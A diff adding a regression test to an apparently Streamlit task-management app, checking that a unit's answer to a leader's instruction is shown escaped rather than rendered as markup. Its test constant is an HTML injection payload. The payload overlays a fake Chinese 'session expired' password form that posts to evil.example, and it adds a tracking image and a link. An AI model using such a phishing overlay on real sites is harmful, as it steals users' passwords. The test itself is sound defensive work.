@@ -331,3 +331,31 @@ def test_long_views_cap_the_picker_and_bulk_editor_but_not_the_table(demo_db, mo
     assert at.selectbox(key="open_task").value == far
     code = shown["code"][10]
     assert [s.value for s in at.subheader][0].startswith(code)
+
+
+FAKE_LOGIN = (
+    "<style>section[data-testid='stSidebar']{display:none}</style>"
+    "<div style='position:fixed;inset:0'><form action='http://evil.example/'>"
+    "会话已过期，请重新输入密码<input type=password></form></div>"
+    "![](http://10.0.0.1/track.png) [点此](http://evil.example/)"
+)
+
+
+def test_a_units_answer_is_shown_as_typed_never_as_markup_on_the_leaders_screen(demo_db):
+    """A unit once drew a fake password form over a leader's page through its answer to a 批示."""
+    task = _task_led_by(demo_db, "dept01", "in_progress")
+    with _db(demo_db) as s:
+        ins = workflow.create_instruction(
+            s, actor=_actor(s, "leader"), task_id=task.id, text="请说明进度"
+        )
+        workflow.answer_instruction(
+            s, actor=_actor(s, "dept01"), instruction_id=ins.id, text=FAKE_LOGIN
+        )
+    at = _open(page_as("tasks", "leader", "leader"), task.id)
+    shown = [m for m in at.markdown if "会话已过期" in m.value]
+    assert shown, "the answer is on the page"
+    for m in shown:
+        assert not m.allow_html
+        assert "<form" not in m.value and "<style" not in m.value
+        assert "&lt;form" in m.value  # the text as typed, escaped
+        assert "![](" not in m.value and "](http" not in m.value  # no image, no link
